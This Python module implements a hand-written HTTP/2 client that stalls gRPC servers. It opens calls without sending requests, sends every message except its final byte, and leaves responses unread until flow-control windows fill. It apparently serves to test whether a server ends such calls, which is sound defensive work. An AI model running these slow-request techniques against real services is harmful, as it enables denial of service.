"""A gRPC client that does not finish its requests: it opens calls, and sends parts of messages.

The library sends whole messages only, so this speaks HTTP/2 itself: as much of it as an attack needs.
"""

from __future__ import annotations

import contextlib
import socket
import struct
import threading
import time
from collections import Counter
from collections.abc import Iterable

_DATA, _HEADERS, _RST_STREAM, _SETTINGS, _PING, _GOAWAY, _WINDOW_UPDATE = 0, 1, 3, 4, 6, 7, 8
_ACK, _END_STREAM, _END_HEADERS = 1, 1, 4
_INITIAL_WINDOW_SIZE, _WINDOW_MAX, _WINDOW = 4, 2**31 - 1, 65_535
_FRAME_BYTES_MAX = 16_384


class Connection:
    """One connection. A thread of its own reads what the server sends."""

    def __init__(self, address: str) -> None:
        host, _, port = address.rpartition(":")
        self._socket = socket.create_connection((host, int(port)))
        self._lock, self._next = threading.Condition(), 1
        # Bytes that the server takes: by stream, 0 for the connection. Then those of a new stream.
        self._windows, self._new_window = Counter({0: _WINDOW}), _WINDOW
        self._ended: set[int] = set()
        self._is_closed = False
        settings = struct.pack("!HI", _INITIAL_WINDOW_SIZE, _WINDOW_MAX)
        self._socket.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(_SETTINGS, 0, 0, settings))
        threading.Thread(target=self._read, daemon=True).start()

    def ended(self, calls: int, *, wait_seconds: float) -> int:
        """How many calls the server has ended, once it has ended so many or the time is over."""
        with self._lock:
            self._lock.wait_for(lambda: self._is_closed or len(self._ended) >= calls, wait_seconds)
            return len(self._ended)

    def is_closed_within(self, seconds: float) -> bool:
        """Waits until the server has closed the connection, at most so long."""
        with self._lock:
            return self._lock.wait_for(lambda: self._is_closed, seconds)

    def open(self, method: str, metadata: Iterable[tuple[str, str]]) -> int:
        """Open a call and send nothing of its request."""
        stream, self._next = self._next, self._next + 2
        with self._lock:
            self._windows[stream] = self._new_window
        own = {":method": "POST", ":scheme": "http", ":path": method, ":authority": "attack"}
        headers = [*own.items(), ("content-type", "application/grpc"), ("te", "trailers"), *metadata]
        self._socket.sendall(_frame(_HEADERS, _END_HEADERS, stream, b"".join(_field(*each) for each in headers)))
        return stream

    def send(self, stream: int, data: bytes, *, wait_seconds: float) -> int:
        """Send as much as the server takes. Returns the number of bytes."""
        sent = 0
        while sent < len(data):
            room = self._room(stream, wait_seconds)
            if not room:
                break
            part = data[sent : sent + min(room, _FRAME_BYTES_MAX)]
            with self._lock:
                self._windows.subtract({0: len(part), stream: len(part)})
            self._socket.sendall(_frame(_DATA, 0, stream, part))
            sent += len(part)
        return sent

    def finish(self, stream: int) -> None:
        """Say that the request is whole."""
        self._socket.sendall(_frame(_DATA, _END_STREAM, stream))

    def close(self) -> None:
        # The thread that reads holds the socket too.
        with contextlib.suppress(OSError):
            self._socket.shutdown(socket.SHUT_RDWR)
        self._socket.close()

    def _room(self, stream: int, wait_seconds: float) -> int:
        def is_free() -> bool:
            return self._is_closed or stream in self._ended or min(self._windows[0], self._windows[stream]) > 0

        with self._lock:
            self._lock.wait_for(is_free, wait_seconds)
            if self._is_closed or stream in self._ended:
                return 0
            return max(0, min(self._windows[0], self._windows[stream]))

    def _read(self) -> None:
        with self._socket.makefile("rb") as stream:
            try:
                while len(header := stream.read(9)) == 9:
                    size, number = int.from_bytes(header[:3], "big"), int.from_bytes(header[5:], "big")
                    with self._lock:
                        self._hear(header[3], header[4], number, stream.read(size))
                        self._lock.notify_all()
            except OSError:
                pass
        with self._lock:
            self._is_closed = True
            self._lock.notify_all()

    def _hear(self, kind: int, flags: int, stream: int, payload: bytes) -> None:
        if kind == _SETTINGS and not flags & _ACK:
            told = dict(struct.iter_unpack("!HI", payload))
            if (window := told.get(_INITIAL_WINDOW_SIZE)) is not None:
                self._windows.update({each: window - self._new_window for each in self._windows if each})
                self._new_window = window
            self._socket.sendall(_frame(_SETTINGS, _ACK, 0))
        elif kind == _PING and not flags & _ACK:
            self._socket.sendall(_frame(_PING, _ACK, 0, payload))
        elif kind == _WINDOW_UPDATE:
            self._windows[stream] += int.from_bytes(payload, "big")
        elif kind == _RST_STREAM or (kind == _HEADERS and flags & _END_STREAM):
            self._ended.add(stream)
        elif kind == _GOAWAY:
            self._is_closed = True


def open_calls(
    address: str, method: str, metadata: Iterable[tuple[str, str]], *, calls: int, connections: int, seconds_max: float
) -> int:
    """Open calls, send nothing of their requests, and wait for their end. Returns how many the server ended."""
    opened = [Connection(address) for _ in range(connections)]
    for connection in opened:
        for _ in range(calls // connections):
            connection.open(method, metadata)
    end = time.monotonic() + seconds_max
    ended = sum(connection.ended(calls // connections, wait_seconds=end - time.monotonic()) for connection in opened)
    for connection in opened:
        connection.close()
    return ended


def send_parts(
    address: str,
    method: str,
    metadata: Iterable[tuple[str, str]],
    *,
    calls: int,
    message_bytes: int,
    bytes_per_second: float,
    hold_seconds: float,
) -> int:
    """Send one message on each call, but for its last byte. Returns how many calls the server ended."""
    connection = Connection(address)
    part = b"\0" + struct.pack("!I", message_bytes) + bytes(message_bytes - 1)
    begun, sent = time.monotonic(), 0
    for _ in range(calls):
        sent += connection.send(connection.open(method, metadata), part, wait_seconds=0.2)
        # While it is too fast it waits for the end of all calls, which does not come before they have begun.
        connection.ended(calls + 1, wait_seconds=begun + sent / bytes_per_second - time.monotonic())
    ended = connection.ended(calls, wait_seconds=hold_seconds)
    connection.close()
    return ended


def leave_unread(
    address: str,
    method: str,
    metadata: Iterable[tuple[str, str]],
    *,
    message: str,
    calls: int,
    connections: int,
    hold_seconds: float,
) -> int:
    """Send one message, given in hexadecimal, on each call, and take no more of the answers than a connection has room
    for at its start. Returns how many calls the server ended."""
    raw = bytes.fromhex(message)
    opened = [Connection(address) for _ in range(connections)]
    for number in range(calls):
        connection = opened[number % connections]
        stream = connection.open(method, metadata)
        connection.send(stream, b"\0" + struct.pack("!I", len(raw)) + raw, wait_seconds=5.0)
        connection.finish(stream)
    begun = time.monotonic()
    for connection in opened:
        connection.ended(calls // connections, wait_seconds=begun + hold_seconds - time.monotonic())
    ended = sum(connection.ended(0, wait_seconds=0) for connection in opened)
    for connection in opened:
        connection.close()
    return ended


def _frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def _field(name: str, value: str) -> bytes:
    """A header without compression."""
    return b"\0" + _text(name) + _text(value)


def _text(text: str) -> bytes:
    raw = text.encode()
    assert len(raw) < 127 + 128, "longer texts have a length of three bytes"
    length = bytes([len(raw)]) if len(raw) < 127 else bytes([127, len(raw) - 127])
    return length + raw
